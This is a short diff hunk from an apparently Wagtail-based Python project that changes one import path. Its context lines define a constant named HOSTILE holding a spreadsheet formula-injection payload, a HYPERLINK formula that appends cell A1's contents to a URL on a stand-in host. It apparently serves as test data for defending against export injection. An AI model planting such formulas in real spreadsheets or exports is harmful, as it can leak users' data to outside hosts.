@@ -12,7 +12,7 @@ from wagtail.contrib.redirects.models import Redirect
 from wagtail.log_actions import log
 from wagtail.models import Page, PageLogEntry
 
-from home.help.admin import InsteadOfAList
+from publishing.records.screens import InsteadOfAList
 
 HOSTILE = '=HYPERLINK("http://contoh.invalid/?"&A1;"klik")'
 
